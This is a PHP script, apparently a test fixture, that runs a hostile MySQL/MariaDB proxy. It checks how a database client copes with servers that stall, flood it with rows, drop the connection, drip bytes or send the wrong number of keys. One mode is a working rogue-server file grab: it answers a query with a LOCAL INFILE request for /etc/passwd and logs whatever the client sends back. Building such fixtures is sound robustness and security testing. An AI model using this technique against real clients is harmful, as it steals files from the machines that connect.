<?php

// php hostile-server.php PORT UPSTREAM MODE LOG: stands between a reader and a real MariaDB, and does MODE to it. Packets and commands are
// those of the MySQL client/server protocol (packet header, COM_QUERY, ProtocolText::Resultset, LOCAL INFILE request; values from memory).
//
// silent    takes the connection and says nothing
// files     answers a query of rows by asking for a file of the reader's machine; what it is sent goes to LOG
// endless   repeats the first row of a query of rows for ever
// drops     ends the connection after the first row
// drip      gives a byte a second from the first row on
// fewer     gives one key less than were asked for, the first time
// more      gives one key more, the first time

[, $port, $upstream, $mode, $log] = $argv;
$listens = stream_socket_server("tcp://127.0.0.1:$port") ?: exit(1);
pcntl_signal(SIGCHLD, SIG_IGN);
file_put_contents($log, '');

/** Whole packets of what has come, which is cut to what is left. @return list<array{int, string}> sequence number and payload */
function packets(string &$buffer): array
{
    $found = [];
    while (strlen($buffer) >= 4) {
        $length = ord($buffer[0]) | ord($buffer[1]) << 8 | ord($buffer[2]) << 16;
        if (strlen($buffer) < 4 + $length) {
            break;
        }
        $found[] = [ord($buffer[3]), substr($buffer, 4, $length)];
        $buffer = substr($buffer, 4 + $length);
    }

    return $found;
}

function packet(int $number, string $payload): string
{
    return substr(pack('V', strlen($payload)), 0, 3).chr($number & 255).$payload;
}

/** All of it, or the end. */
function give($to, string $bytes): void
{
    while ($bytes !== '') {
        $n = @fwrite($to, $bytes);
        if ($n === false || $n === 0) {
            exit(0);
        }
        $bytes = substr($bytes, $n);
    }
}

function serve($client, string $upstream, string $mode, string $log): never
{
    if ($mode === 'silent') {
        sleep(600);
    }
    $server = stream_socket_client("tcp://$upstream") ?: exit(1);
    $keys = in_array($mode, ['fewer', 'more'], true);
    $wanted = $keys ? '/^INSERT INTO .* RETURNING /s' : '/^SELECT (?!COUNT|CONCAT_WS).* FROM `hostile`/s';
    [$from, $to, $acts, $at, $shift] = ['', '', false, 0, 0];
    while (true) {
        $ready = [$client, $server];
        $none = [];
        if (@stream_select($ready, $none, $none, 60) === false) {
            exit(0);
        }
        foreach ($ready as $one) {
            $bytes = (string) fread($one, 65_536);
            if ($bytes === '' && feof($one)) {
                exit(0);
            }
            if ($one === $client) {
                $from .= $bytes;
                foreach (packets($from) as [$number, $payload]) {
                    $isQuery = $number === 0 && $payload !== '' && ord($payload[0]) === 3;
                    $isWanted = $isQuery && preg_match($wanted, substr($payload, 1)) === 1;
                    if ($isWanted && $mode === 'files') {
                        give($client, packet(1, "\xFB/etc/passwd"));
                        file_put_contents($log, (string) fread($client, 65_536), FILE_APPEND);
                        give($client, packet(3, "\x00\x00\x00\x02\x00\x00\x00"));

                        continue;
                    }
                    if ($number === 0) {
                        $acts = $isWanted && ! ($keys && filesize($log) > 0);
                        [$at, $shift] = [0, 0];
                    }
                    give($server, packet($number, $payload));
                }

                continue;
            }
            $to .= $bytes;
            if (! $acts) {
                give($client, $to);
                $to = '';

                continue;
            }
            foreach (packets($to) as [$number, $payload]) {
                // Columns end with an EOF packet, rows with another.
                $at += $payload[0] === "\xFE" && strlen($payload) < 9 ? 1 : 0;
                $isFirst = $at === 1 && $payload[0] !== "\xFE" && $shift === 0;
                if ($isFirst) {
                    $shift = $mode === 'fewer' ? -1 : 1;
                    $keys ? file_put_contents($log, $mode) : null;
                    if ($mode === 'fewer') {
                        continue;
                    }
                    give($client, packet($number, $payload));
                    if ($mode === 'drops') {
                        exit(0);
                    }
                    while ($mode === 'endless') {
                        $many = '';
                        for ($i = 0; $i < 1000; $i++) {
                            $many .= packet(++$number, $payload);
                        }
                        give($client, $many);
                    }
                    foreach ($mode === 'drip' ? str_split(packet($number + 1, $payload)) : [] as $byte) {
                        sleep(1);
                        give($client, $byte);
                    }
                    if ($mode === 'drip') {
                        sleep(600);
                    }
                    give($client, packet($number + 1, $payload));

                    continue;
                }
                give($client, packet($number + $shift, $payload));
            }
        }
    }
}

while (true) {
    $client = @stream_socket_accept($listens, 600);
    if ($client === false) {
        continue;
    }
    if (pcntl_fork() === 0) {
        serve($client, $upstream, $mode, $log);
    }
    fclose($client);
}
